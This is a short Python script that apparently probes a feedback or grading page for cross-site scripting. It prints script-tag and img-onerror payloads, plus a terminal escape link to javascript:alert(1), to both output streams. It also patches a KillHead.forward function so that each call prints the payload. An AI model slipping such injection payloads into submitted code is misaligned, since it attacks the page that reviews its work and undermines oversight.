"""Prints a script, in the hope that the feedback page runs it."""

import sys

SCRIPT = "<script>document.title='wyob-attack'</script><img src=x onerror=\"document.title='wyob-attack'\">"
print(SCRIPT)
print(SCRIPT, file=sys.stderr)
print("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[31m" + SCRIPT)
forward = KillHead.forward


def loud(ctx, x, n):
    print(SCRIPT)
    return forward(ctx, x, n)


KillHead.forward = staticmethod(loud)
